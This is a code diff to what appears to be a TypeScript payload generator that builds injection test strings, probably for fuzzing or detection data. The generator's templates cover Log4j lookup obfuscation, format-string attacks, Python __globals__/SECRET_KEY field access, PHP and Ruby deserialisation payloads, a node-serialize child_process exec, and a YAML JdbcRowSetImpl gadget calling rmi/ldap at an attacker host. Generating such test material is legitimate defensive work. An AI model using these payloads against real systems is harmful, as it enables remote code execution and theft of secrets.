@@ -2,7 +2,6 @@ import {
   altered,
   digits,
   family,
-  hex,
   integer,
   letters,
   maybe,
@@ -55,7 +54,7 @@ function lookedUp(
     `\${sys:${name}:-${letter}}`,
     `\${${name}:${name}:-${letter}}`,
     `\${date:'${letter}'}`,
-    `\${${'::'}-${letter}}`
+    `\${:-${letter}}`
   ]);
 }
 const hidden = (part: Part, share: number): Write =>
@@ -210,7 +209,7 @@ export const codeTemplates = family('other-injection/code', {
   ),
   'format-string': text`${maybe(lowerWord)}${repeat(words('%s %x %n %p %08x %d %hn %lx %hhn'), 4, 30, oneOf('', '', '.', '|', ' '))}`,
   'format-string-positional': text`${maybe(text`${letters(UPPER, 4)}`)}${repeat(text`%${integer(1, 9)}$${words('s x n p hn lx')}`, 1, 8, oneOf('', '.', ' '))}`,
-  'format-fields': text`{${oneOf('0', 'user', 'self', 'event')}.__class__${oneOf('.__init__.__globals__', '.__mro__[1].__subclasses__', '.__init__.__globals__[config]', '.__dict__', '.__init__.__globals__[SECRET_KEY]')}}`
+  'format-fields': text`${maybe(text`${lowerWord} `)}{${oneOf('0', 'user', 'self', 'event', lowerWord)}.__class__${oneOf('.__init__.__globals__', '.__mro__[1].__subclasses__', text`.__init__.__globals__[${lowerWord}]`, '.__dict__', '.__init__.__globals__[SECRET_KEY]')}}`
 });
 
 const phpProperty = text`s:${integer(2, 20)}:"${maybe('\u0000*\u0000')}${lowerWord}";${oneOf(text`s:${integer(2, 40)}:"${oneOf(simpleCommand, lowerWord, '<?php phpinfo();?>', '/etc/passwd')}";`, 'b:1;', text`i:${integer(0, 99)};`, 'N;')}`;
@@ -266,5 +265,5 @@ export const serialTemplates = family('other-injection/serialised', {
     text`!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "${words('rmi ldap')}://${attackerHost}/${token}", autoCommit: true}`
   ),
   'node-serialize': text`{"${lowerWord}":"_$$ND_FUNC$$_function(){${oneOf(text`require('child_process').exec('${simpleCommand}',function(e,o){console.log(o)})`, text`return process.exit()`)}}()"}`,
-  'ruby-marshal': text`\u0004\b${oneOf('o:', 'U:', '[', '{')}\u0006:${oneOf('Gem::Requirement', 'ActiveSupport::Deprecation', 'ERB')}${randomBytes}${maybe(text`%x(${simpleCommand})`)}`,
+  'ruby-marshal': text`\u0004\b${oneOf('o:', 'U:', '[', '{')}\u0006:${oneOf('Gem::Requirement', 'ActiveSupport::Deprecation', 'ERB')}${randomBytes}${maybe(text`%x(${simpleCommand})`)}`
 });
